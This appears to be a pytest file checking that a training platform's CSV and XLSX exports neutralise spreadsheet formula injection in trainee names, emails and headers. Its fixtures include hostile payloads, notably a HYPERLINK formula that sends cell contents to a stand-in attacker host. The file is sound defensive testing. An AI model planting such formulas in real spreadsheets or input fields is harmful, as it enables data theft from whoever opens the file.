"""Formula injection (issue 14, finding 3): text that people typed never becomes a formula in any spreadsheet the
platform writes — the six reports in CSV (both separators) and XLSX, from the web, the CLI and the job; the
eligibility CSV; the users CSV. Numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest

from core.db import db
from core.spreadsheet import FORMULA_START
from courses import exports, importer, reports, services
from courses.reports import Column, Part, Report

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1;"Click")'
NAMES = [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
# The importer trims its cells and the account service the names: "\t=1" arrives as "=1" (still hostile). The
# leading tab and carriage return themselves are checked on a report built by hand, below.
SHOWN = [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "=1"]


def is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", "."))
    except InvalidOperation:
        return False
    return True


@pytest.fixture
def hostile(build_cohort, admin):
    """A cohort whose trainees carry hostile names, imported from a CSV file through the real importer."""
    world = build_cohort("PROMO-EVIL", trainees=(("ok@example.org", "Olga Ordinaire"),))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["email", "legal_name", "display_name", "enrolled_on", "withdrawn_on"])
    for n, name in enumerate(NAMES):
        writer.writerow([f"evil{n}@example.org", name, "", world.cohort.starts_on.isoformat(), ""])
    report = importer.run("trainees", world.cohort, out.getvalue().encode(), actor=admin)
    assert report.counts["created"] == len(NAMES), report.summary()
    db.session.commit()
    return world


def report_of(kind: str, world) -> Report:
    return reports.funder(date.today()) if kind == "funder" else reports.build(kind, world.cohort, date.today())


def check_csv(data: bytes, delimiter: str) -> list[list[str]]:
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or is_number(cell), (cell, row)
    return table


def check_xlsx(source) -> list[list]:
    book = openpyxl.load_workbook(source)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not cell.value.startswith(FORMULA_START), cell.value
            values.append([c.value for c in row])
    return values


@pytest.mark.parametrize("kind", reports.KINDS)
def test_no_report_carries_a_formula(app, hostile, tmp_path, kind):
    report = report_of(kind, hostile)
    seen: set[str] = set()
    for part in report.parts:
        for delimiter in exports.DELIMITERS.values():
            table = check_csv(exports.render(report, "csv", part=part.key, delimiter=delimiter), delimiter)
            seen.update(cell for row in table for cell in row)
        path = tmp_path / f"{kind}-{part.key}.csv"
        exports.write_file(report, "csv", path, part=part.key)
        check_csv(path.read_bytes(), ";")
    rows = check_xlsx(io.BytesIO(exports.render(report, "xlsx")))
    exports.write_file(report, "xlsx", tmp_path / f"{kind}.xlsx")
    check_xlsx(tmp_path / f"{kind}.xlsx")
    if kind in ("summary", "sessions", "modules", "risk"):  # the reports that name trainees
        shown = seen | {v for row in rows for v in row if isinstance(v, str)}
        assert {"'" + name for name in SHOWN} <= shown, sorted(shown)


def test_the_web_download_and_the_cli_are_safe(app, hostile, client_for, admin, runner, tmp_path):
    client = client_for(admin)
    url = f"/cohorts/{hostile.cohort.uuid}/reports/summary/export"
    response = client.get(url, query_string={"format": "xlsx"})
    assert response.status_code == 200
    assert "'" + HYPERLINK in {v for row in check_xlsx(io.BytesIO(response.data)) for v in row}
    response = client.get(url, query_string={"format": "csv", "delimiter": "comma"})
    assert "'" + HYPERLINK in {c for row in check_csv(response.data, ",") for c in row}

    result = runner.invoke(
        args=["report", "sessions", "PROMO-EVIL", "--format", "xlsx", "--out", str(tmp_path / "s.xlsx")]
    )
    assert result.exit_code == 0, result.output
    check_xlsx(tmp_path / "s.xlsx")


def test_the_eligibility_and_users_csv_are_safe(app, hostile, create_user, runner):
    services.enrol(hostile.cohort, create_user(email="-5+5@example.org", legal_name="Adresse Bizarre"))
    db.session.commit()
    result = runner.invoke(args=["eligibility", "PROMO-EVIL", "--format", "csv"])
    assert result.exit_code == 0, result.output
    table = check_csv(result.output.encode(), ",")
    emails = [row[0] for row in table[1:]]
    assert "'-5+5@example.org" in emails and "evil0@example.org" in emails

    result = runner.invoke(args=["users", "list", "--format", "csv"])
    assert result.exit_code == 0, result.output
    table = check_csv(result.output.encode(), ",")
    names = {row[1] for row in table[1:]}
    assert {"'" + name for name in SHOWN} <= names


def test_numbers_dates_and_booleans_keep_their_type(tmp_path):
    columns = [
        Column("name", "=Name", "text"),
        Column("n", "Count", "count"),
        Column("h", "Hours", "hours"),
        Column("p", "Rate", "percent"),
        Column("d", "Day", "date"),
        Column("b", "Done", "text"),
    ]
    rows = [["-1+2", -3, -90, -5, date(2026, 1, 2), True], ["\x07bell", 4, 30, 50, None, False]]
    part = Part("p", "Part", columns, rows + [[name, 0, 0, 0, None, False] for name in NAMES])
    report = Report("t", "Title", "Scope", date(2026, 1, 2), [part])
    book = openpyxl.load_workbook(io.BytesIO(exports.render(report, "xlsx")))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[0] == "'=Name"
    first = sheet[2]
    assert [c.data_type for c in first[:5]] == ["s", "n", "n", "n", "d"]
    assert first[0].value == "'-1+2" and first[1].value == -3 and first[2].value == -1.5 and first[3].value == -5
    assert first[5].value in ("yes", "oui")
    assert sheet[3][0].value == "\ufffdbell"  # a control character XML cannot carry does not break it
    table = check_csv(exports.render(report, "csv", delimiter=";"), ";")
    assert table[0][0] == "'=Name"
    assert table[1][:4] == ["'-1+2", "-3", "-1,50", "-5,0"]  # a rate as pages show it (rules.shown_percent)
    assert [row[0] for row in table[3:]] == ["'" + name for name in NAMES]
    assert [row[0].value for row in sheet.iter_rows(min_row=4)] == ["'" + name for name in NAMES]


def test_the_helper_neutralises_each_prefix_and_nothing_else():
    from core.spreadsheet import CsvWriter, safe_value

    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", HYPERLINK):
        assert safe_value(text) == "'" + text
    for value in ("Anne", " =1", "'=1", -1, Decimal("-2.5"), date(2026, 1, 1), True, None):
        assert safe_value(value) == value
    out = io.StringIO()
    CsvWriter(out, lineterminator="\n").writerows([["=1", -1, "x"]])
    assert out.getvalue() == "'=1,-1,x\n"


def test_job_exports_are_safe(app, hostile, tmp_path: Path):
    report = reports.platform_summary(date.today())
    path = tmp_path / "platform.xlsx"
    exports.write_file(report, "xlsx", path)
    assert "'" + HYPERLINK in {v for row in check_xlsx(path) for v in row}
